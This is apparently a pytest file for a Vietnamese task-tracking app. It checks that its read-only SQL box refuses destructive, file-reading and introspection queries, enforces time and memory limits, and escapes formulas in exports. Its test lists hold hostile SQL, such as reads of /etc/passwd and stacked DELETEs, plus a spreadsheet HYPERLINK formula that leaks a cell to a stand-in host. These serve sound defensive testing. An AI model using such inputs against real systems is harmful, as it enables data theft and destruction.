import io
import time

import openpyxl
import pyarrow as pa
import pytest

from chibo import auth, queries, sandbox, tasks
from chibo.errors import InputError, QueryError
from tests.conftest import TODAY

A = auth.SYSTEM
MEMBER = auth.Actor(1, "dv", "dang_vien")  # Tra cứu is open to every member

HOSTILE = [
    ("DELETE FROM nhiem_vu", "không được xóa"),
    ("UPDATE nhiem_vu SET tien_do = 100", "không được sửa"),
    ("INSERT INTO nhiem_vu VALUES (1)", "không được thêm"),
    ("DROP TABLE nhiem_vu", "chỉ nhận một câu lệnh SELECT"),
    ("CREATE TABLE x (a INT)", "chỉ nhận một câu lệnh SELECT"),
    ("COPY nhiem_vu TO '/tmp/leak.csv'", "tệp"),
    ("SELECT * FROM read_csv('/etc/passwd')", "tệp"),
    ("SELECT * FROM read_text('/etc/hostname')", "tệp"),
    ("SELECT * FROM glob('/*')", "tệp"),
    ("ATTACH '/tmp/other.duckdb' AS o", "gắn thêm"),
    ("INSTALL httpfs", "tiện ích"),
    ("LOAD httpfs", "tiện ích"),
    ("SET threads = 1", "cài đặt"),
    ("PRAGMA threads = 1", "cài đặt|SELECT"),
    ("SELECT 1; DELETE FROM nhiem_vu", "một câu lệnh"),
    ("SELECT * FROM tasks", "Không có bảng"),
    ("SELECT * FROM users", "Không có bảng"),
    ("SELECT password_hash FROM main.users", "Không có bảng"),
    ("EXPORT DATABASE '/tmp/x'", "xuất dữ liệu"),
]


@pytest.mark.parametrize("sql,message", HOSTILE)
def test_the_sql_box_refuses_hostile_statements_in_one_sentence(demo_db, sql, message):
    before = demo_db.scalar("SELECT count(*) FROM tasks")
    with pytest.raises(InputError, match=message) as error:
        queries.run_sql(demo_db, A, sql, today=TODAY)
    assert "\n" not in str(error.value)
    assert demo_db.scalar("SELECT count(*) FROM tasks") == before


def test_a_long_query_is_stopped_at_the_time_limit(demo_db):
    slow = "SELECT count(*) FROM range(100000000) a, range(100000) b WHERE a.range + b.range = -1"
    with pytest.raises(InputError, match="quá 1 giây"):
        queries.run_sql(demo_db, A, slow, timeout=1, today=TODAY)


LEAKS = [
    "SELECT * FROM duckdb_settings()",
    "SELECT current_setting('secret_directory')",
    "SELECT * FROM pg_catalog.pg_settings",
    "SELECT * FROM pg_settings",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM duckdb_databases",
    "SELECT * FROM query('SELECT * FROM duckdb_settings()')",
    "SELECT * FROM duckdb_temporary_files()",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM pragma_database_list",
    "SHOW ALL TABLES",
    "DESCRIBE SELECT * FROM duckdb_settings()",
    "SELECT * FROM pragma_platform()",
    "SELECT * FROM duckdb_functions()",
    "SELECT * FROM duckdb_memory()",
    "SELECT getvariable('x')",
]


@pytest.mark.parametrize("sql", LEAKS)
def test_the_sql_box_says_nothing_about_the_server(demo_db, sql):
    with pytest.raises(InputError) as refused:
        queries.run_sql(demo_db, MEMBER, sql, today=TODAY)
    assert "\n" not in str(refused.value) and "/root" not in str(refused.value)


def test_the_sandbox_runs_with_the_memory_and_threads_it_is_given_and_names_no_folder():
    rows = "SELECT current_setting('threads') AS t, current_setting('memory_limit') AS m, (SELECT count(*)" \
           " FROM duckdb_settings() WHERE value LIKE '/%' OR value LIKE '~%') AS folders"
    _, answer = sandbox.run({}, "SELECT 1", rows, {}, sandbox.Limits(5, 300, 2))
    assert pa.ipc.open_stream(answer).read_all().to_pylist() == [{"t": 2, "m": "300.0 MiB", "folders": 0}]


def test_a_query_stuck_in_one_long_function_call_is_stopped_at_the_time_limit(demo_db):
    started = time.monotonic()  # how long the refusal took, not the day: the limit is the behaviour
    with pytest.raises(InputError, match="quá 1 giây"):
        queries.run_sql(demo_db, MEMBER, "SELECT levenshtein(repeat('a', 200000), repeat('b', 200000))", timeout=1,
                        today=TODAY)
    assert time.monotonic() - started < 4  # the call alone runs for about a minute


def test_a_query_past_its_memory_limit_is_stopped_with_a_sentence(demo_db):
    with pytest.raises(QueryError, match="nhiều bộ nhớ hơn mức cho phép 256 MB") as refused:
        queries.run_sql(demo_db, MEMBER, "SELECT length(repeat('x', 2000000000))", memory_mb=256, today=TODAY)
    assert "Out of Memory" in refused.value.detail


def test_an_answer_too_heavy_for_the_page_is_refused(demo_db):
    with pytest.raises(InputError, match="Kết quả quá lớn"):
        queries.run_sql(demo_db, MEMBER, "SELECT repeat('x', 20000000) AS x FROM range(2)", today=TODAY)


@pytest.mark.parametrize("sql", ["SELECT count(*) AS n FROM nhiem_vu -- mọi nhiệm vụ",
                                 "SELECT count(*) AS n FROM nhiem_vu; -- mọi nhiệm vụ"])
def test_a_trailing_comment_does_not_break_a_valid_query(demo_db, sql):
    assert queries.run_sql(demo_db, MEMBER, sql, today=TODAY).frame["n"][0] == demo_db.scalar("SELECT count(*) FROM tasks")


@pytest.mark.parametrize("sql,sentence,original", [
    ("SELEC * FROM nhiem_vu", "Câu truy vấn sai cú pháp gần «SELEC».", "syntax error"),
    ("SELECT khong_co FROM nhiem_vu", "Tên cột không đúng: không có cột «khong_co».", "Referenced column"),
    ("SELECT linh_vuc, count(*) FROM nhiem_vu", "Cột «linh_vuc» phải có trong GROUP BY hoặc nằm trong một hàm gộp"
     " (count, sum, avg, …).", "GROUP BY"),
    ("SELECT CAST('nhiều' AS INTEGER)", "Không đổi được giá trị «nhiều» sang kiểu INT32.", "Could not convert"),
    ("SELECT lower(tien_do) FROM nhiem_vu", "Hàm «lower» không nhận kiểu dữ liệu đã đưa vào; hãy đổi kiểu, ví dụ"
     " CAST(… AS VARCHAR).", "No function matches"),
    ("SELECT khong_co_ham(1)", "Không có hàm «khong_co_ham».", "does not exist"),
])
def test_database_errors_become_vietnamese_sentences_with_the_original_kept(demo_db, sql, sentence, original):
    with pytest.raises(QueryError) as refused:
        queries.run_sql(demo_db, MEMBER, sql, today=TODAY)
    assert str(refused.value) == sentence and original in refused.value.detail


def test_a_deeply_nested_statement_is_refused_in_a_sentence(demo_db):
    with pytest.raises(InputError, match="lồng nhau quá sâu"):
        queries.run_sql(demo_db, MEMBER, "SELECT " + "abs(" * 800 + "1" + ")" * 800, today=TODAY)


def test_syntax_errors_and_unknown_columns_get_plain_messages(demo_db):
    with pytest.raises(InputError, match="sai cú pháp"):
        queries.run_sql(demo_db, A, "SELEC * FROM nhiem_vu", today=TODAY)
    with pytest.raises(InputError, match="Tên cột không đúng"):
        queries.run_sql(demo_db, A, "SELECT khong_co FROM nhiem_vu", today=TODAY)


def test_a_huge_result_is_truncated_with_its_total(demo_db):
    result = queries.run_sql(demo_db, A, "SELECT * FROM range(5000)", today=TODAY)
    assert result.total == 5000 and len(result.frame) == queries.MAX_ROWS and result.truncated


def test_the_views_answer_with_the_same_numbers_as_the_domain(demo_db):
    result = queries.run_sql(demo_db, A, "SELECT count(*) AS n FROM nhiem_vu", today=TODAY)
    assert result.frame.iloc[0]["n"] == demo_db.scalar("SELECT count(*) FROM tasks")


def test_each_code_in_the_views_has_its_vietnamese_label_beside_it(demo_db):
    from chibo.labels import ATTENDANCE, TASK_STATUSES
    sql = "SELECT * FROM nhiem_vu"
    frame = queries.run_sql(demo_db, A, sql, today=TODAY).frame
    columns = list(frame.columns)
    assert columns.index("trang_thai_ten") == columns.index("trang_thai") + 1
    assert columns.index("kenh_ten") == columns.index("kenh") + 1
    assert set(zip(frame["trang_thai"], frame["trang_thai_ten"])) <= set(TASK_STATUSES.items())
    assert {"overdue", "done"} <= set(frame["trang_thai"])  # the codes stay, to filter on
    present = queries.run_sql(demo_db, A, "SELECT DISTINCT diem_danh, diem_danh_ten FROM diem_danh", today=TODAY).frame
    assert set(zip(present["diem_danh"], present["diem_danh_ten"])) <= set(ATTENDANCE.items()) and len(present) > 1


def test_the_help_documents_every_code_with_its_label_and_every_label_column():
    for view, coded in queries.CODE_LABELS.items():
        documented = queries.view_columns(view)
        for column, (_, names) in coded.items():
            assert all(f"{code} = {label}" in documented[column] for code, label in names.items())
            assert f"ở cột {column}" in documented[column + queries.LABELLED]
    assert "overdue = Quá hạn" in queries.view_columns("nhiem_vu")["trang_thai"]


def test_no_ready_question_answers_with_a_stored_code(demo_db):
    from chibo.labels import ALL_CODES
    for name, question in queries.QUESTIONS.items():
        params = {p: ("1" if kind == "int" else TODAY.isoformat()) for p, kind in question.params.items()}
        frame = queries.ask(demo_db, A, name, params, today=TODAY).frame
        cells = {v for c in frame.columns if frame[c].dtype == object for v in frame[c] if isinstance(v, str)}
        assert not cells & set(ALL_CODES), name


@pytest.mark.parametrize("name", list(queries.QUESTIONS))
def test_every_ready_question_runs(demo_db, name):
    params = {p: ("2" if kind == "int" else TODAY.isoformat()) for p, kind in queries.QUESTIONS[name].params.items()}
    result = queries.ask(demo_db, A, name, params, today=TODAY)
    assert result.total == len(result.frame)


def test_overdue_question_matches_a_direct_count(demo_db):
    result = queries.ask(demo_db, A, "viec_qua_han", {"ngay": TODAY.isoformat()}, today=TODAY)
    direct = demo_db.scalar("SELECT count(*) FROM tasks WHERE status IN ('not_started','in_progress')"
                            " AND deadline < ?", [TODAY])
    assert result.total == direct


def test_a_question_with_a_bad_parameter_is_refused(demo_db):
    with pytest.raises(InputError, match="Số buổi vắng tối thiểu"):
        queries.ask(demo_db, A, "vang_nhieu_buoi", {"so_buoi": "nhiều"}, today=TODAY)
    with pytest.raises(InputError, match="Không có câu hỏi"):
        queries.ask(demo_db, A, "khong_co", today=TODAY)


def test_a_saved_question_reruns(demo_db):
    queries.save_query(demo_db, A, "Việc quá hạn theo người", "SELECT nguoi_chu_tri, count(*) FROM nhiem_vu GROUP BY 1")
    saved = queries.saved_queries(demo_db).iloc[0]
    assert queries.run_sql(demo_db, A, saved["sql"], today=TODAY).total > 0
    with pytest.raises(InputError, match="Đã có câu hỏi"):
        queries.save_query(demo_db, A, "việc quá hạn theo người", "SELECT 1")
    with pytest.raises(InputError, match="không được xóa"):
        queries.save_query(demo_db, A, "Xóa", "DELETE FROM nhiem_vu")


def test_a_chart_is_offered_only_for_label_and_number_results():
    import pandas as pd
    assert queries.chart_spec(pd.DataFrame({"Tên": ["a"], "Số": [1]})) == ("Tên", "Số")
    assert queries.chart_spec(pd.DataFrame({"Số": [1], "Khác": [2]})) is None
    assert queries.chart_spec(pd.DataFrame()) is None
    assert queries.chart_spec(pd.DataFrame({"Tên": ["a", "a"], "Số": [60, 60]})) is None  # not one bar of 120


def test_the_filter_builder_narrows_tasks_targets_and_meetings(demo_db):
    every = queries.filter_tasks(demo_db, TODAY)
    overdue = queries.filter_tasks(demo_db, TODAY, status="overdue")
    assert every.total == demo_db.scalar("SELECT count(*) FROM tasks") and 0 < overdue.total < every.total
    assert set(overdue.frame["Trạng thái"]) == {"Quá hạn"}
    assert queries.filter_tasks(demo_db, TODAY, words="chuyên đề").total >= 1
    slipping = queries.filter_targets(demo_db, TODAY, below=100)
    assert (slipping.frame["Đạt (%)"].dropna() < 100).all() and slipping.total < queries.filter_targets(demo_db, TODAY).total
    meetings_all = queries.filter_meetings(demo_db)
    assert meetings_all.total == 6
    assert queries.filter_meetings(demo_db, below_rate=0).total == 0


# -- exports a spreadsheet opens -------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://x.example/leak?"&A1,"Bấm vào đây")'


def _with_formula_note(db):
    task_id = db.scalar("SELECT t.id FROM tasks t JOIN documents d ON d.id = t.document_id"
                        " WHERE d.month = DATE '2026-11-01' AND t.status IN ('in_progress', 'not_started') LIMIT 1")
    tasks.record_progress(db, A, task_id, 40, FORMULA, today=TODAY)
    return queries.run_sql(db, A, "SELECT ma_nhiem_vu, tien_do, ghi_chu AS \"@ghi chú\" FROM cap_nhat"
                                  " WHERE ghi_chu LIKE '=%'", today=TODAY)


def test_a_formula_typed_as_a_progress_note_is_plain_text_in_the_excel_download(demo_db):
    sheet = openpyxl.load_workbook(io.BytesIO(_with_formula_note(demo_db).excel())).active
    header, row = list(sheet.iter_rows(max_row=2))
    assert header[2].value == "'@ghi chú"
    assert row[2].value == "'" + FORMULA and row[2].data_type == "s"
    assert isinstance(row[1].value, int)  # numbers stay numbers


def test_a_formula_typed_as_a_progress_note_is_plain_text_in_the_csv_download(demo_db):
    header, row = _with_formula_note(demo_db).csv().decode("utf-8-sig").splitlines()
    assert header.endswith(",'@ghi chú")
    assert row.endswith(',"\'' + FORMULA.replace('"', '""') + '"')
